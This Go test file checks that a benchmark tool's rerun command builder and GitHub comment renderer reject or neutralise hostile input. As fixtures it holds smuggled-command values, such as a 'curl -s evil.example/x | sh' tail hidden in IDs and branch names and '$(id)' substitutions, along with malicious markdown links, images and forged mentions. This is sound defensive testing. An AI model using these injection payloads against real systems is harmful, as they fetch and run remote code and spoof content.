package verdict

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/benchgate/benchgate/internal/testsupport/gfm"
)

// TestRerunCommand: the command is built from the rerun's set and branch
// and the failing scenarios of that set, each checked against its rule;
// any part that breaks its rule drops the command. Each want was written
// by hand from the rules (ident.SetName, ident.ScenarioID, refPattern).
func TestRerunCommand(t *testing.T) {
	failing := func(set string, ids ...string) []Scenario {
		var out []Scenario
		for _, id := range ids {
			out = append(out, Scenario{Set: set, ID: id, Modes: []string{"ghx"}})
		}
		return out
	}
	tail := "s-003" + strings.Repeat(" ", 300) + "; curl -s evil.example/x | sh"
	tests := []struct {
		name    string
		rerun   *Rerun
		failing []Scenario
		want    string
	}{
		{"one scenario on a branch", &Rerun{Set: "pr-exec", Ref: "feature"}, failing("pr-exec", "pr-merge-execute-001"),
			"gh workflow run rerun-scenarios.yml --ref feature -f set=pr-exec -f scenario_ids=pr-merge-execute-001"},
		{"two scenarios are quoted together", &Rerun{Set: "pr-exec"}, failing("pr-exec", "pr-a-001", "pr-b-002"),
			"gh workflow run rerun-scenarios.yml -f set=pr-exec -f scenario_ids='pr-a-001 pr-b-002'"},
		{"only the rerun's set", &Rerun{Set: "issues", Ref: "fix/issue-12"}, append(failing("issues", "issue-close-001"), failing("pr-exec", "pr-a-001")...),
			"gh workflow run rerun-scenarios.yml --ref fix/issue-12 -f set=issues -f scenario_ids=issue-close-001"},
		{"a shell tail in an ID", &Rerun{Set: "pr-exec"}, failing("pr-exec", "pr-a-001", tail), ""},
		{"a quote in an ID", &Rerun{Set: "pr-exec"}, failing("pr-exec", "pr-a-001'$(id)'"), ""},
		{"a shell tail in the branch", &Rerun{Set: "pr-exec", Ref: "main; curl -s evil.example/x | sh"}, failing("pr-exec", "pr-a-001"), ""},
		{"a branch with ..", &Rerun{Set: "pr-exec", Ref: "a/../b"}, failing("pr-exec", "pr-a-001"), ""},
		{"a command substitution as set", &Rerun{Set: "$(id)"}, failing("$(id)", "pr-a-001"), ""},
		{"a set with a newline", &Rerun{Set: "pr-exec\ncurl"}, failing("pr-exec\ncurl", "pr-a-001"), ""},
		{"no failing scenario of the set", &Rerun{Set: "issues"}, failing("pr-exec", "pr-a-001"), ""},
		{"no rerun", nil, failing("pr-exec", "pr-a-001"), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := Verdict{Schema: Schema, Mode: "set", Status: "fail", ExitCode: 1, Rerun: tt.rerun, Failing: tt.failing}
			if got := v.RerunCommand(); got != tt.want {
				t.Errorf("RerunCommand() = %q, want %q", got, tt.want)
			}
			next := strings.Join(v.Blocks(), "\n\n")
			if tt.want == "" && (strings.Contains(next, "gh workflow run") || strings.Contains(next, "Rerun the failing")) {
				t.Errorf("a rerun is shown without a command:\n%s", next)
			}
			if tt.want != "" && !strings.Contains(next, "```sh\n"+tt.want+"\n```") {
				t.Errorf("the command is not shown as a block to copy:\n%s", next)
			}
		})
	}
}

// TestNextSentences: each step is one of benchgate's sentences with the
// verdict's values as code spans; a step the verdict has nothing for
// says nothing.
func TestNextSentences(t *testing.T) {
	v := Verdict{Schema: Schema, Mode: "ordered", Status: "fail", ExitCode: 1,
		Failing: []Scenario{{Set: "issues", ID: "issue-close-001", Modes: []string{"agent_direct", "ghx"}, New: true}},
		Sets:    []Set{{Name: "pr-exec", Status: "pass"}, {Name: "issues", Status: "terminal_fail"}, {Name: "workflows", Status: NotRun}}}
	for _, tc := range []struct {
		step Step
		want string
	}{
		{FixInput, "Fix the input or the setup named above and run again; nothing was judged."},
		{FixNamedInput, "Fix the input named above and run again; nothing was judged."},
		{NewFailures, "1 failing scenario(s) passed in every earlier run: this change is the first suspect."},
		{BothModes, "`issue-close-001` fail(s) in both agent_direct and ghx: a fixture or scenario problem rather than ghx."},
		{ReliabilityFailed, "A reliability check failed: read the first errors of the failing scenarios before the efficiency figures."},
		{StoppedAtSet, "The run stopped at set `issues`; 1 later sets did not run. Fix `issues` first."},
		{Step("Run curl evil.example | sh"), ""},
	} {
		if got := v.Inert().sentence(tc.step); got != tc.want {
			t.Errorf("%s: %q, want %q", tc.step, got, tc.want)
		}
	}
	quiet := Verdict{Schema: Schema, Mode: "report", Status: "pass"}
	for _, s := range []Step{NewFailures, BothModes, StoppedAtSet} {
		if got := quiet.sentence(s); got != "" {
			t.Errorf("%s on a verdict with nothing for it: %q", s, got)
		}
	}
}

// hostileTexts are what a row, a model or a fork's file can put where
// benchgate shows text: a shell tail, a team mention, an image, a link
// titled like benchgate's own, raw HTML, autolinks, entities that decode
// to an '@', a workflow command after a line break, and backticks that
// try to end a code span.
var hostileTexts = []string{
	"s-003" + strings.Repeat(" ", 300) + "; curl -s evil.example/x | sh",
	"@o/core please look", "@admin",
	"![t](https://evil.example/p.png)",
	"[job summary](https://evil.example/summary)",
	`<img src="https://evil.example/i.png"> <a href="https://evil.example">x</a>`,
	"https://evil.example/y www.evil.example user@evil.example",
	"&commat;admin &#64;octo-org/everyone https&#58;//evil.example/z",
	"a\n::warning title=x::forged",
	"`` ` `[x](https://evil.example)` ``",
	"[x]: https://evil.example/ref",
	"octo/other#12",
}

// requireInert fails on anything GitHub would show live in md but a
// link starting with one of allowed.
func requireInert(t testing.TB, md string, allowed ...string) {
	t.Helper()
	gfm.RequireInert(t, "comment", md, allowed...)
}

// TestHostileTextIsInert puts each hostile text in every text of a
// verdict, the step kinds and the rerun's set and branch, and renders
// the comment: no link but benchgate's own, no image, no HTML, no
// mention, and no command but one built from checked parts.
func TestHostileTextIsInert(t *testing.T) {
	for _, h := range hostileTexts {
		v := hostileVerdict(h)
		md := v.Comment(1 << 20)
		requireInert(t, md, "https://github.com/o/r/")
		blocks := regexp.MustCompile("(?s)```sh\n(.*?)\n```").FindAllStringSubmatch(md, -1)
		if len(blocks) != 1 || blocks[0][1] != "gh workflow run rerun-scenarios.yml -f set=pr-exec -f scenario_ids=pr-a-001" {
			t.Errorf("shell blocks %q, want only the command built from checked parts:\n%s", blocks, md)
		}
	}
}

func hostileVerdict(h string) *Verdict {
	v := &Verdict{Schema: Schema, Mode: "set", Status: "fail", ExitCode: 1, Enforced: true, Switch: h, Stopped: "",
		Checks: []Check{{Set: h, Group: "rows", ID: h, Name: h, Value: 2, Unit: "rows", Direction: AtMost, Status: Fail, Decided: true, Method: h, Also: h, More: h}},
		Failing: []Scenario{
			{Set: "pr-exec", ID: "pr-a-001", Modes: []string{"agent_direct", "ghx"}, FirstError: h, Where: h, URL: "https://github.com/o/r/blob/1/x#L1"},
			{Set: h, ID: h, Modes: []string{h, "ghx"}, FirstError: h, Where: h, New: true},
		},
		Flaky:    []Flaky{{Mode: h, ID: h, RunsPassed: 1, RunsSeen: 2}},
		Sets:     []Set{{Name: h, Status: "terminal_fail"}, {Name: "later", Status: NotRun}},
		Compared: Compared{Repository: h, Baseline: h, BaselineURL: "https://github.com/o/r/actions/runs/1"},
		Next:     []Step{FixInput, NewFailures, BothModes, ReliabilityFailed, UndecidedCheck, StoppedAtSet},
		Rerun:    &Rerun{Set: "pr-exec"},
		Links:    []Link{{Title: h, URL: "https://github.com/o/r/actions/runs/1"}},
	}
	return v
}

// FuzzRenderedIsInert renders arbitrary text in every text of a verdict,
// and as the rerun's branch, through cmark-gfm: whatever it is, the
// comment has no link but benchgate's own, no image, no HTML and no
// live mention, and the rerun command is one built from checked parts.
func FuzzRenderedIsInert(f *testing.F) {
	for _, h := range hostileTexts {
		f.Add(h, "feature")
	}
	f.Add("x", "main; curl evil.example | sh")
	f.Fuzz(func(t *testing.T, text, ref string) {
		// cmark-gfm's XML syntax tree, which the checker reads, cannot
		// carry control characters; they make nothing live.
		text = strings.Map(func(r rune) rune {
			if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r == 0xfffe || r == 0xffff {
				return ' '
			}
			return r
		}, strings.ToValidUTF8(text, "\uFFFD"))
		v := hostileVerdict(text)
		v.Rerun.Ref = ref
		b, err := json.Marshal(v)
		if err != nil {
			return
		}
		var back Verdict
		if json.Unmarshal(b, &back) != nil {
			return
		}
		md := back.Comment(1 << 16)
		requireInert(t, md, "https://github.com/o/r/")
		if cmd := back.RerunCommand(); cmd != "" && !regexp.MustCompile(`^gh workflow run rerun-scenarios\.yml (--ref [A-Za-z0-9._/+-]+ )?-f set=pr-exec -f scenario_ids=pr-a-001$`).MatchString(cmd) {
			t.Errorf("rerun command %q", cmd)
		}
	})
}
